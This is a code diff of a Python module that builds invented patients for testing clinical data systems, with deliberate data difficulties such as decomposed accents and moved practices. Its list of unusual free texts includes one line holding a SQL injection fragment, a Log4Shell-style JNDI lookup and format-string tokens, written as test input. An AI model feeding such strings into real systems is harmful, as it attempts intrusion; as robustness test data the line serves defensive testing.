@@ -1,4 +1,7 @@
-"""The invented people. Person i of a seed is the same person however many people there are."""
+"""The invented people and the troubles of real data that they show.
+
+A trouble is a difficulty of real data, shown on purpose. Person i of a seed is the same in every population.
+"""
 
 from __future__ import annotations
 
@@ -7,18 +10,16 @@ from datetime import date
 from random import Random
 from typing import Literal, NamedTuple
 
-from onestory.sample import chance as sample_chance
-from onestory.sample.chance import numbers_of, stream
+from onestory.sample.chance import days_ago, nhs_numbers, random_stream
 from onestory.sample.network import PRACTICES, SourceSystem
-
-# Which difficulties of real data exist, and who shows them.
-#
-# A person's difficulties follow from the person's index alone: every one of them is there among the first twenty
-# people,
-# and a larger population has them in proportion.
 
 
 class Trouble(NamedTuple):
+    """A trouble, shown by each person whose index is `offset` modulo `period`.
+
+    The first twenty people show all troubles between them; a larger population has them in proportion.
+    """
+
     offset: int
     period: int
     meaning: str
@@ -52,8 +53,8 @@ TROUBLES: dict[str, Trouble] = {
 }
 
 
-def troubles_of(index: int) -> tuple[str, ...]:
-    """The difficulties of this person, in the order of the table; those that everyone has are left out."""
+def person_troubles(index: int) -> tuple[str, ...]:
+    """The troubles of this person, in the order of the table, without those that everybody has."""
     return tuple(
         name
         for name, trouble in TROUBLES.items()
@@ -61,10 +62,9 @@ def troubles_of(index: int) -> tuple[str, ...]:
     )
 
 
-# Names, streets and words for invented people: not only Latin letters, as in any English practice list.
-
-
 class InventedNames(NamedTuple):
+    """Names of one culture. `weight` is its share: an English practice list has more than Latin letters."""
+
     weight: int
     female: tuple[str, ...]
     male: tuple[str, ...]
@@ -109,7 +109,7 @@ NAMES: tuple[InventedNames, ...] = (
         ("Gurdeep", "Imran", "Rajesh", "Tariq"),
         ("Kaur", "Begum", "Chaudhry", "Patel"),
     ),
-    # Decomposed on purpose: the letters carry combining marks, and must come back as they went in.
+    # Decomposed on purpose: letters with combining marks must come back unchanged.
     InventedNames(
         4,
         ("O\u0323la\u0301bi\u0301si\u0301", "Ngo\u0323zi", "Sine\u0301ad"),
@@ -131,13 +131,13 @@ Age = Literal["child", "adult", "frail"]
 
 @dataclass(frozen=True, slots=True)
 class Person:
-    """What is true of a person, before any system says it in its own way."""
+    """The true facts of a person, from which each source states its own part."""
 
     seed: int
     index: int
     nhs_number: str
     superseded: str
-    """The number that this person had before; empty for nearly everyone."""
+    """The NHS number that the person had before; empty for nearly everyone."""
     family: str
     given: str
     gender: Literal["female", "male"]
@@ -146,30 +146,30 @@ class Person:
     age: Age
     practice: SourceSystem
     former_practice: SourceSystem | None
-    """Where this person was registered before `moved`; None for nearly everyone."""
-    moved: date | None
-    """The first day of the registration with `practice`, where another one was before it."""
+    """The practice of the registration before `registered_since`; None for nearly everyone."""
+    registered_since: date | None
+    """The first day of the registration with `practice`; None without a former practice."""
     address: tuple[str, str]
     """Street and town."""
     postcode: str
     phone: str
     weight: float
-    """Kilograms, about."""
+    """In kilograms; measurements differ from it by up to 2 kg."""
     protected: bool
     """Address and practice must not be shown (v3-Confidentiality R on the Patient)."""
     troubles: tuple[str, ...]
-    """Which difficulties of real data this person shows; the names are in `troubles`."""
+    """The names of the troubles that this person shows, as in `TROUBLES`."""
 
     @property
     def name(self) -> str:
         return f"{self.given} {self.family}"
 
 
-def person(seed: int, index: int) -> Person:
+def make_person(seed: int, index: int) -> Person:
     """Person `index` of this seed. Raises `ValueError` past the largest population."""
-    chance = stream(seed, "person", index)
-    troubles = troubles_of(index)
-    current, former = numbers_of(seed, index)
+    chance = random_stream(seed, "person", index)
+    troubles = person_troubles(index)
+    current, former = nhs_numbers(seed, index)
     gender: Literal["female", "male"] = "female" if chance.random() < 0.52 else "male"
     given, family = _name(chance, gender)
     age = _age(chance, troubles)
@@ -181,12 +181,12 @@ def person(seed: int, index: int) -> Person:
         family=family,
         given=given,
         gender=gender,
-        born=sample_chance.days_ago(_days_lived(chance, age)),
-        died=sample_chance.days_ago(chance.randrange(6, 14)) if "deceased" in troubles else None,
+        born=days_ago(_age_in_days(chance, age)),
+        died=days_ago(chance.randrange(6, 14)) if "deceased" in troubles else None,
         age=age,
         practice=PRACTICES[index % len(PRACTICES)],
         former_practice=PRACTICES[(index + 1) % len(PRACTICES)] if "moved-practice" in troubles else None,
-        moved=_moved(seed, index) if "moved-practice" in troubles else None,
+        registered_since=_registration_date(seed, index) if "moved-practice" in troubles else None,
         address=(f"{chance.randrange(1, 180)} {chance.choice(STREETS)}", chance.choice(TOWNS)),
         postcode=f"ZZ99 {chance.randrange(10)}{''.join(chance.choice(POSTCODE_LETTERS) for _ in 'ab')}",
         phone=_phone(chance),
@@ -201,7 +201,7 @@ def _name(chance: Random, gender: str) -> tuple[str, str]:
     return chance.choice(culture.female if gender == "female" else culture.male), chance.choice(culture.family)
 
 
-_NOT_OF_CHILDREN = ("sensitive", "very-restricted", "care-package", "conflict-dose", "conflict-condition")
+_ADULT_TROUBLES = ("sensitive", "very-restricted", "care-package", "conflict-dose", "conflict-condition")
 
 
 def _age(chance: Random, troubles: tuple[str, ...]) -> Age:
@@ -210,26 +210,24 @@ def _age(chance: Random, troubles: tuple[str, ...]) -> Age:
         return "frail"
     if "safeguarding" in troubles:
         return "child"
-    return "adult" if drawn == "child" and any(name in _NOT_OF_CHILDREN for name in troubles) else drawn
+    return "adult" if drawn == "child" and any(name in _ADULT_TROUBLES for name in troubles) else drawn
 
 
-def _days_lived(chance: Random, age: Age) -> int:
+def _age_in_days(chance: Random, age: Age) -> int:
     youngest, eldest = {"child": (2, 17), "adult": (19, 70), "frail": (76, 99)}[age]
     return chance.randrange(youngest * 366, eldest * 365)
 
 
-def _moved(seed: int, index: int) -> date:
-    return sample_chance.days_ago(stream(seed, "moved", index).randrange(100, 300))
+def _registration_date(seed: int, index: int) -> date:
+    return days_ago(random_stream(seed, "moved", index).randrange(100, 300))
 
 
 def _phone(chance: Random) -> str:
-    """From the numbers that Ofcom keeps for drama."""
+    """A number from the ranges that Ofcom reserves for drama."""
     return f"{chance.choice(('01632 960', '07700 900'))}{chance.randrange(1000):03d}"
 
 
-# Free text as people really type it. Each of these has broken a clinical system somewhere.
-
-TEXTS: tuple[str, ...] = (
+UNUSUAL_TEXTS: tuple[str, ...] = (
     'Prefers to be called Mags 😀👩‍👩‍👧‍👦; very worried about "the tablets".',
     'Copied from letter: see "reference":"Patient/123" and {"resourceType":"Patient","id":"9000000009"}.',
     "Café visits weekly; naïve to opioids; e\u0301 decomposed and \u00e9 composed are both here.",
@@ -243,3 +241,4 @@ TEXTS: tuple[str, ...] = (
     "' OR 1=1; -- and ${jndi:ldap://example.org/a} and %s %n {0} were in the referral letter.",
     "Zażółć gęślą jaźń. Córka odbiera telefon po 17:00.",
 )
+"""Free text as people really type it. Each of these has broken a clinical system somewhere."""
